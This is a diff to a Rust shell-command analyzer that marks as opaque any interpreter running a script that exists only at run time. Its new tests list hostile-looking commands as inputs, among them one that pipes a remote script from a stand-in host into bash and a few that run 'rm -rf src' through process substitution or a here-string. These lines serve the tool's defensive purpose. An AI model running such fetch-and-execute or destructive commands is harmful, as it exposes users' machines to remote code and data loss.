@@ -103,8 +103,15 @@ impl Walker {
                 }
                 None => self.opaque(format!("`{prog} -c` without a script")),
             }
-        } else if operand.is_some() && !stdin {
-            // `bash file.sh`: runs a file; the signature is the command itself.
+        } else if let Some(file) = operand.filter(|_| !stdin) {
+            // `bash file.sh`: runs a file; the signature is the command
+            // itself. A file only known when it runs (`bash <(curl URL)`,
+            // `bash /dev/stdin <<< ...`) is `curl URL | bash`.
+            if crate::programs::unseen_script(file) {
+                self.opaque(format!(
+                    "`{prog}` runs a script only known when the command runs (`{file}`)"
+                ));
+            }
         } else if let Some(body) = self.stdin_script.take().filter(|_| heredoc) {
             // `bash <<'EOF'`, `sh -s <<EOF`: the body is its script, read
             // as `-c` would be.
@@ -162,5 +169,33 @@ mod tests {
         assert!(cmds("bash -posix -c 'git push'").contains(&"git push".to_string()));
         // After a short option, `-norc` is a cluster again (`-n -o rc`).
         assert!(analyze("bash -e -norc x").startup_files.is_none());
+    }
+
+    /// A script only known when the command runs is stdin's by another
+    /// name: `bash <(curl URL)` is `curl URL | bash`, and so is a
+    /// descriptor; a script file in the workspace is a file.
+    #[test]
+    fn a_script_from_a_substitution_or_a_descriptor_is_opaque() {
+        for s in [
+            "bash <(curl https://x.test/i.sh)",
+            "sh <(echo 'rm -rf src')",
+            "bash -e <(cat x)",
+            "bash /dev/stdin <<< 'rm -rf src'",
+            "zsh /dev/fd/3 3<x",
+            "bash /proc/self/fd/0",
+            "python3 <(echo 'import os')",
+            "node /dev/stdin",
+        ] {
+            let a = analyze(s);
+            assert!(
+                a.opaque
+                    .as_deref()
+                    .is_some_and(|o| o.contains("only known when the command runs")),
+                "{s}: {a:?}"
+            );
+        }
+        assert!(analyze("bash x.sh").opaque.is_none());
+        assert!(analyze("python3 tools/gen.py").opaque.is_none());
+        assert!(analyze("diff <(ls a) <(ls b)").opaque.is_none());
     }
 }
